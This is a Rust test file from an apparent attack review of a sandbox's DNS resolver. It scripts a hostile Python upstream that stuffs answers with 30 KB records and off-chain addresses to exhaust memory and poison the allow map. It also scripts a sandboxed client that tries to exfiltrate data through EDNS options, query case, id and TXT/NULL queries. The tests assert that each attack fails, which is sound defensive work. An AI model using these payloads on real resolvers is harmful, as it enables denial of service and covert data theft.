//! A thirty-first attack review, from two seats: a process inside a sandbox (uid 65534,
//! arbitrary Python, raw DNS to any nameserver, which the kernel redirects to hb's
//! resolver) and the operator of the authoritative DNS for a name its policy allows
//! through a wildcard (`*.wild.test`, as `*.github.io` or `*.s3.amazonaws.com` are: the
//! attacker registers a name under it and answers whatever it likes). Each test performs
//! one attack against the real agent and kernel with a scripted upstream on the test
//! namespace's `lo`, counts what reached the far side, and asserts the secure outcome.
//!
//! Angle: the resolver against a hostile upstream, and DNS as a channel.
//!
//! Found here (fails against ff780be): the resolver kept the upstream's whole answer
//! section — every record of any type and any owner — validated the addresses among it
//! whatever name they were for, taught the kernel all of them for the asked name, cached
//! the lot and handed it to every sandbox of the policy that asked. The cache's bound
//! estimates an entry's size from its record count and owner names, not from what the
//! records hold, so an upstream that answers each name of its zone with one address and
//! one 30,000-byte record of another type (NULL, TXT: anything) made the agent hold
//! ~30 KB per name while the bound counted ~300 bytes: 2,000 names grew it by 58 MiB (0-1 MiB now),
//! and the 16 MiB bound (~55,000 such entries) lets ~1.6 GiB through, past the
//! DaemonSet's 512 MiB limit, which kills every tenant's DNS with the agent. And an
//! address answered for a name off the question's CNAME chain (here `victim.wild.test`,
//! inside an answer for `fat….wild.test`) was taught to the kernel as the asked name's.
//! Now the answer kept is the question's chain alone: the CNAMEs from the asked name on
//! (at most [`MAX_CHAIN`] of them, no loop: else SERVFAIL) and the addresses of the
//! asked type owned by the name it leads to; every other record is dropped before
//! validation. The broker's resolver follows chains by the same code now. Where it
//! bites: an upstream that passes an authority's answer on as it came (a forwarder:
//! dnsmasq, CoreDNS `forward`, or a resolver the attacker runs); a scrubbing recursive
//! resolver (Unbound, BIND, the public ones) drops records off the chain itself.
//!
//! Found too (fails against ff780be): an answer's TTL was its addresses' alone, so a
//! CNAME of TTL 1 before an address of TTL 3000 had the kernel hold the address, and the
//! cache the answer, for 3000 s (`max_ttl_secs` at most) after the alias could move: the
//! sandbox was answered TTL 3000, now 5 (`min_ttl_secs`; RFC 2181 §5.2: the lowest of the
//! chain's TTLs, as the broker's resolver already took).
//!
//! Held, checked by reading `hb-agent/src/dns/` (mod.rs `prepare`/`resolve`, upstream.rs
//! `request`/`same_question`, cache.rs) and kept as the tests named:
//! - an answer's records are never cached or learned under their own (other) names: the
//!   cache and the allow map are keyed by the question's name and the asking policy, so
//!   the operator of one name cannot poison another name, nor another policy's view.
//! - the upstream query is hb's own: a random id, the name lower-cased (0x20 case not
//!   passed), one question of type A or AAAA, hb's own EDNS record (no client-subnet,
//!   cookie or padding option of the sandbox's); other types (TXT, NULL, HTTPS/SVCB,
//!   ANY) are answered REFUSED and never forwarded; a refused name never goes upstream
//!   (`the_upstream_sees_hbs_query_not_the_sandboxs`, and attack review 15).
//! - a reply is taken only from the server asked, with the id sent (UDP) and the
//!   question asked (type, name in any case); a truncated UDP reply is replaced by the
//!   TCP one whole (`resolver.rs`: truncated answers).
//! - TTLs: the answer's TTL is clamped to `[min_ttl_secs, max_ttl_secs]` (2^31+ and
//!   0 included: u32, then the clamp), the allow row expires with it; addresses per name
//!   are capped across answers (`learned.rs`: oldest evicted), per sandbox and per policy
//!   (attack review 15); the answer cache and lookups in flight are per policy with the
//!   flooding policy giving up its own first (`resolver.rs`, attack review 15).
//! - a TTL of 2^31 or more (RFC 2181: read as 0) is taken as large and clamped to
//!   `max_ttl_secs`: the authority could answer that TTL anyway, so no gain.
//! - one sandbox flooding distinct names of an allowed zone leaves another sandbox, of
//!   its policy or another, answered: lookups in flight are shared per cgroup and per
//!   policy (`resolver.rs`: `one_sandbox_flooding_distinct_names_…`); the allow map's
//!   rows per policy and per sandbox (`learned.rs`).
//! - AAAA answers carrying an IPv4 (mapped, NAT64, 6to4, Teredo: the deny list holds
//!   `2002::/16` and `2001::/23` outright), ULA, site-local, link-local and multicast,
//!   and 0.0.0.0, 255.255.255.255, 224/4: deny ranges, the whole answer refused
//!   (`egress.rs` unit tests, attack review 15).
//!
//! Everything lives on `lo` in the test's own network namespace; the upstream is a small
//! Python DNS server the test scripts, on 127.0.0.1.

use std::{fs, thread, time::Duration};

use hb_tests::{
    PythonServer, TestEnv, private_netns, python,
    sandboxed::{PY_WIDE_NAMES, nobody_run, tcp_answers, udp_ask},
    worlds::{recording_upstream, resolver_config, started_agent},
};

const FAT_PORT: u16 = 5531;

/// The most CNAMEs the resolver follows from a question's name.
const MAX_CHAIN: usize = 16;

/// The hostile upstream on 127.0.0.1:`FAT_PORT`. An A query for a name whose first label
/// starts with `fat` gets, with TTL 60: the name's address 203.0.113.12, an address for
/// `victim.wild.test` (203.0.113.66: a name off the question's chain) and a record of type
/// NULL owned by the name, 30,000 bytes of nothing. `chain<N>.wild.test` answers a chain
/// of N CNAMEs (`chain<N>` → `c1.chain<N>` → …) ending at 203.0.113.13, the records in
/// reverse order; `loop.wild.test` a CNAME loop of two names with an address on each;
/// `short.wild.test` a CNAME of TTL 1 to a name whose address has TTL 3000.
/// Any other A query gets 203.0.113.10; AAAA queries get nothing (NODATA).
fn fat_upstream() -> PythonServer {
    PythonServer::start(&format!(
        r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
s.bind(("127.0.0.1", {FAT_PORT}))
def name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"
def rr(owner, t, data, ttl=60):
    return owner + struct.pack("!HHIH", t, 1, ttl, len(data)) + data
while True:
    q, a = s.recvfrom(512)
    end = 12
    while q[end] != 0: end += q[end] + 1
    first = q[13:13 + q[12]].decode().lower()
    qname = q[12:end + 1].lower()
    qtype = struct.unpack("!H", q[end + 1:end + 3])[0]
    rrs = []
    if qtype == 1 and first.startswith("fat"):
        rrs = [rr(b"\xc0\x0c", 1, socket.inet_aton("203.0.113.12")),
               rr(name("victim.wild.test"), 1, socket.inet_aton("203.0.113.66")),
               rr(b"\xc0\x0c", 10, b"\0" * 30000)]
    elif qtype == 1 and first.startswith("chain"):
        n = int(first[5:])
        names = [qname] + [name("c%d." % i + first + ".wild.test") for i in range(1, n + 1)]
        rrs = [rr(names[i], 5, names[i + 1]) for i in range(n)]
        rrs.append(rr(names[n], 1, socket.inet_aton("203.0.113.13")))
        rrs.reverse()
    elif qtype == 1 and first == "short":
        edge = name("edge.short.wild.test")
        rrs = [rr(qname, 5, edge, 1), rr(edge, 1, socket.inet_aton("203.0.113.16"), 3000)]
    elif qtype == 1 and first == "loop":
        other = name("loop2.wild.test")
        rrs = [rr(qname, 5, other), rr(other, 5, qname),
               rr(qname, 1, socket.inet_aton("203.0.113.14")),
               rr(other, 1, socket.inet_aton("203.0.113.15"))]
    elif qtype == 1:
        rrs = [rr(b"\xc0\x0c", 1, socket.inet_aton("203.0.113.10"))]
    s.sendto(q[:2] + struct.pack("!HHHHH", 0x8180, 1, len(rrs), 0, 0) + q[12:end + 5] + b"".join(rrs), a)
"#
    ))
}

/// The world's config: policy `web` allows `*.wild.test`, policy `other` only
/// `victim.wild.test`; the upstream on `FAT_PORT`.
fn wild_config() -> String {
    format!(
        "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"*.wild.test\"]\n\n\
         [[policy]]\nname = \"other\"\nallow_domains = [\"victim.wild.test\"]\n",
        resolver_config(FAT_PORT, true, "", &["203.0.113.0/24"])
    )
}

/// The operator of a name under an allowed wildcard answers each name of its zone with
/// one address and one 30,000-byte record of type NULL; a sandbox resolves 2,000 such
/// names. The resolver kept each whole answer in its cache, whose byte bound counted the
/// records, not what they held: the agent grew ~30 KB a name, unbounded in practice
/// (16 MiB of estimates ≈ 1.6 GiB). Now only the question's chain is kept.
#[test]
fn an_upstream_stuffing_answers_with_records_of_other_types_does_not_grow_the_agent() {
    private_netns(&["192.0.2.53", "203.0.113.10"]);
    let _up = fat_upstream();
    let mut env = started_agent("ar31fat", &wild_config());
    let pid = env.agent().pid();
    let before = hb_tests::memory_kib(pid, false);
    let said = nobody_run(
        &env,
        "web",
        &[python(), "-c", PY_WIDE_NAMES, "0", "2000", "fat"],
    );
    let grown_mib = hb_tests::memory_kib(pid, false).saturating_sub(before) / 1024;
    let victim = udp_ask(&env, "other", &["victim.wild.test"]);
    println!(
        "figure: an upstream answering 2000 names with 30 KB each -> {} -> the agent grew {grown_mib} MiB",
        said.trim()
    );
    assert!(
        said.contains("answered 2000"),
        "the attacker's names were answered (else the attack proves nothing): {said}"
    );
    assert!(
        grown_mib < 16,
        "one upstream's stuffed answers made the agent's cache hold {grown_mib} MiB"
    );
    assert!(
        victim.contains("rcode 0 203.0.113.10"),
        "another policy's name resolves: {victim}"
    );
}

/// The same upstream's answer for `fat….wild.test` also carries an address for
/// `victim.wild.test`, a name off the question's chain. The resolver taught the kernel
/// that address as `fat….wild.test`'s and handed the sandbox the records it never asked
/// for (a sandbox's caching stub could file them under `victim.wild.test`). Now the
/// sandbox gets the question's chain only, and the kernel learns only its addresses.
#[test]
fn records_off_the_questions_chain_are_neither_learned_nor_handed_out() {
    private_netns(&["192.0.2.53", "203.0.113.10"]);
    let _up = fat_upstream();
    let env = started_agent("ar31chain", &wild_config());
    let said = tcp_answers(
        &env,
        "web",
        &[
            "fat-one.wild.test",
            "chain3.wild.test",
            &format!("chain{}.wild.test", MAX_CHAIN + 1),
            "loop.wild.test",
        ],
    );
    let rows = env.allow_rows();
    let off_chain = rows.iter().filter(|r| r["ip"] == "203.0.113.66").count();
    println!(
        "figure: rows learned for an address off the chain: {off_chain}; the sandbox was handed: {}",
        said.trim().replace('\n', " | ")
    );
    assert!(
        said.contains("fat-one.wild.test rcode 0 answers 1 types 1 addrs 203.0.113.12"),
        "the sandbox was handed records off its question's chain: {said}"
    );
    assert_eq!(
        off_chain, 0,
        "an address answered for another name was learned: {rows:?}"
    );
    // A chain of CNAMEs within the bound, sent in reverse order, is followed whole.
    assert!(
        said.contains("chain3.wild.test rcode 0 answers 4 types 5,5,5,1 addrs 203.0.113.13"),
        "a CNAME chain out of order: {said}"
    );
    // Longer chains and loops are refused (SERVFAIL), their addresses never learned.
    let long = format!("chain{}.wild.test rcode 2 answers 0", MAX_CHAIN + 1);
    assert!(said.contains(&long), "an over-long chain: {said}");
    assert!(
        said.contains("loop.wild.test rcode 2 answers 0"),
        "a CNAME loop: {said}"
    );
    for looped in ["203.0.113.14", "203.0.113.15"] {
        assert!(
            rows.iter().all(|r| r["ip"] != looped),
            "a looping chain's address {looped} was learned: {rows:?}"
        );
    }
}

/// `short.wild.test` is a CNAME of TTL 1 to a name whose address has TTL 3000: the
/// answer holds for as long as its shortest link, as the upstream means (RFC 2181 §5.2;
/// the broker's resolver already took the lowest). hb's resolver took the address's TTL
/// alone, so the kernel held the address, and the cache the answer, for 3000 s (up to
/// `max_ttl_secs`) after the CNAME could have moved. Now a CNAME's TTL bounds it too
/// (clamped up to `min_ttl_secs`, 5).
#[test]
fn a_cnames_short_ttl_bounds_how_long_its_answer_is_held() {
    private_netns(&["192.0.2.53", "203.0.113.10"]);
    let _up = fat_upstream();
    let env = started_agent("ar31ttl", &wild_config());
    let said = tcp_answers(&env, "web", &["short.wild.test"]);
    let ttl: u64 = said
        .split_whitespace()
        .last()
        .and_then(|t| t.parse().ok())
        .unwrap_or(u64::MAX);
    println!(
        "figure: a CNAME of TTL 1 before an address of TTL 3000 -> answered with TTL {ttl}: {}",
        said.trim()
    );
    assert!(
        said.contains("short.wild.test rcode 0 answers 2 types 5,1 addrs 203.0.113.16"),
        "the chain was answered: {said}"
    );
    assert_eq!(ttl, 5, "the answer outlived its CNAME's TTL: {said}");
}

/// A sandbox's queries as a covert channel to the upstream's operator: id 0x5a5a, the
/// name in mixed case (0x20), an EDNS record carrying a client-subnet option (8), a
/// cookie (10) and padding (12) full of data; then the same name as TXT, NULL, HTTPS
/// and ANY. Prints each reply's rcode.
const PY_CHANNEL: &str = r#"
import socket, struct
def q(name, qtype, edns):
    h = struct.pack("!HHHHHH", 0x5a5a, 0x0100, 1, 0, 0, 1 if edns else 0)
    m = h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", qtype, 1)
    if edns:
        opts = struct.pack("!HHHBB", 8, 8, 1, 24, 0) + bytes([10, 1, 2]) + b"\0"
        opts += struct.pack("!HH", 10, 16) + b"SECRETSECRETSECR"
        opts += struct.pack("!HH", 12, 8) + b"EXFILTR8"
        m += b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(opts)) + opts
    return m
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
c.connect(("192.0.2.53", 53))
for what, qtype in (("a", 1), ("txt", 16), ("null", 10), ("https", 65), ("any", 255)):
    c.send(q("ExFiL.wild.test" if what == "a" else "data%s.wild.test" % what, qtype, True))
    try:
        print(what, "rcode", c.recv(4096)[3] & 15, flush=True)
    except OSError as e:
        print(what, "lost", e, flush=True)
"#;

/// What reaches the upstream's operator of an allowed name from a sandbox's query: the
/// name (inherent to forwarding it) and nothing the sandbox chose besides — not its id,
/// its 0x20 case, its EDNS options, nor a query of a type hb does not forward.
#[test]
fn the_upstream_sees_hbs_query_not_the_sandboxs() {
    private_netns(&["192.0.2.53", "203.0.113.10"]);
    let mut env = TestEnv::new("ar31rec", &wild_config());
    let log = env.state_dir.join("upstream-queries");
    let _up = recording_upstream(FAT_PORT, &log);
    env.start_agent();
    let said = nobody_run(&env, "web", &[python(), "-c", PY_CHANNEL]);
    thread::sleep(Duration::from_millis(200));
    let queries: Vec<Vec<u8>> = fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .map(|l| {
            (0..l.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(&l[i..i + 2], 16).expect("hex"))
                .collect()
        })
        .collect();
    let carried = |q: &[u8], what: &[u8]| q.windows(what.len()).any(|w| w == what);
    let with_data = queries
        .iter()
        .filter(|q| carried(q, b"SECRET") || carried(q, b"EXFILTR8") || carried(q, &[10, 1, 2]))
        .count();
    let with_case = queries.iter().filter(|q| carried(q, b"ExFiL")).count();
    let with_id = queries.iter().filter(|q| q[..2] == [0x5a, 0x5a]).count();
    let other_types = queries.iter().filter(|q| carried(q, b"data")).count();
    println!(
        "figure: {} queries upstream; with the sandbox's EDNS data {with_data}, its case {with_case}, its id {with_id}, of other types {other_types}; sandbox: {}",
        queries.len(),
        said.trim().replace('\n', " | ")
    );
    assert!(
        said.contains("a rcode 0"),
        "the A query was answered: {said}"
    );
    assert_eq!(queries.len(), 1, "one query reached the upstream");
    assert!(
        carried(&queries[0], b"\x05exfil\x04wild\x04test\0"),
        "the upstream saw the name, lower-cased: {:02x?}",
        queries[0]
    );
    assert_eq!(with_data + with_case + other_types, 0);
    // The id is hb's own random one: 0x5a5a by chance once in 65,536.
    assert_eq!(with_id, 0, "the sandbox's query id went upstream");
    for refused in [
        "txt rcode 5",
        "null rcode 5",
        "https rcode 5",
        "any rcode 5",
    ] {
        assert!(said.contains(refused), "{refused}: {said}");
    }
}
